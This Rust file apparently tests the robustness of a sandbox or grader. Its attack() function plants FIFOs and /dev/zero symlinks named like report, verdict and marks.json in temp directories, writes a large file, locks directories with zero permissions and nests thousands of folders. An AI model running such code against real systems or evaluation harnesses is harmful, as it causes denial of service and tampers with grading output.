//! Leaves what is hard to take away, and what is not to be read.

use std::fs::{self, Permissions};
use std::os::unix::fs::{PermissionsExt, symlink};

fn attack() {
    let temporary = std::env::temp_dir();
    for folder in [temporary.clone(), temporary.join("..")] {
        for name in ["report", "verdict", "server_1", "stdout", "marks.json"] {
            let path = folder.join(name);
            let _ = symlink("/dev/zero", path.with_extension("zero"));
            let _ = std::process::Command::new("mkfifo").arg(&path).status();
        }
        let _ = fs::write(folder.join("large"), vec![0; 30 << 20]);
        let _ = fs::create_dir_all(folder.join("closed/inside/deeper"));
        let _ = fs::write(folder.join("closed/inside/file"), "x");
        let _ = fs::set_permissions(folder.join("closed/inside"), Permissions::from_mode(0));
        let _ = fs::set_permissions(folder.join("closed"), Permissions::from_mode(0));
    }
    let mut depth = 0;
    while depth < 6000 && fs::create_dir("d").is_ok() && std::env::set_current_dir("d").is_ok() {
        depth += 1;
    }
    tell(format_args!("leaves a tree of {depth} folders"));
}
